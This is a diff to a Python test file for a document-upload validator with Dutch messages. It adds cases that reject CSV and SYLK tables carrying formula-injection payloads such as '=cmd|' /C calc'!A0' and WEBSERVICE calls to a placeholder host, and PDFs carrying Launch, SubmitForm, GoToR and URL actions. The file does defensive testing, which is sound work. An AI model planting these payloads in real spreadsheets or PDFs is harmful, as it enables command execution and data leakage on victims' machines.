@@ -97,10 +97,38 @@ def test_document_that_pretends_or_acts_is_refused_in_words(name, content, words
 @pytest.mark.parametrize(
     "content",
     [
+        b"naam;aantal\n=cmd|' /C calc'!A0;3\n",
+        b'a,"=WEBSERVICE(""http://x.example"")"\n',
+        b"a\t@SUM(A1)\n",
+        b"a;=1+cmd|' /C calc'!A0\n",
+        b"a;-1+webservice(A1)\n",
+        b"+cmd|' /C calc'!A0\n",
+        b"ID;PWXL;N;E\nC;Y1;X1;EWEBSERVICE()\n",
+    ],
+)
+@pytest.mark.parametrize("name", ["tabel.csv", "tabel.txt"])
+def test_table_with_a_formula_is_refused(name, content):
+    with pytest.raises(ValidationError, match="begint een cel met een formule"):
+        check_document(upload(name, content))
+
+
+def test_table_with_numbers_phones_and_lists_is_taken():
+    content = b"a;-3,5\nb;+32 2 219 42 99\nc;@school\n- een lijst\n-punt\n====\n"
+
+    assert check_document(upload("tabel.csv", content)) == "csv"
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
         pdf_with(b"5 0 obj", ESCAPED, b"endobj\n"),
         pdf_with(b"5 0 obj<</S %x\n/Launch/F(cmd.exe)>>endobj\n"),
         pdf_with(b"5 0 obj<</S/SubmitForm/F(http://x.example)>>endobj\n"),
         pdf_with(b"5 0 obj<</Type/EmbeddedFile>>endobj\n"),
+        pdf_with(b"5 0 obj<</S /GoToR /F (\\\\\\\\evil\\\\x.pdf)>>endobj\n"),
+        pdf_with(b"5 0 obj<</S\n/Thread /F (x.pdf)>>endobj\n"),
+        pdf_with(b"5 0 obj<</F << /FS /URL /F (http://x.example) >> >>endobj\n"),
+        pdf_with(b"5 0 obj<</Subtype/Form/Ref << /F (x.pdf) /Page 0 >> >>endobj\n"),
         pdf_with(object_stream(SCRIPT)),
         pdf_with(object_stream(ESCAPED)),
         pdf_with(object_stream(ESCAPED, name=b"/Obj#53tm")),
@@ -111,7 +139,7 @@ def test_document_that_pretends_or_acts_is_refused_in_words(name, content, words
         pdf_with(object_stream(b"", name=b"/Geen", packed=EMPTY_BLOCKS_FIRST)),
         pdf_with(object_stream(b"", name=b"/ObjStm" + b" " * 2_100, packed=EMPTY_BLOCKS_FIRST)),
     ],
-    ids=range(13),
+    ids=range(17),
 )
 def test_pdf_that_acts_is_refused_however_it_is_written_down(content):
     with pytest.raises(ValidationError, match="een programma, een bijlage of een medium"):
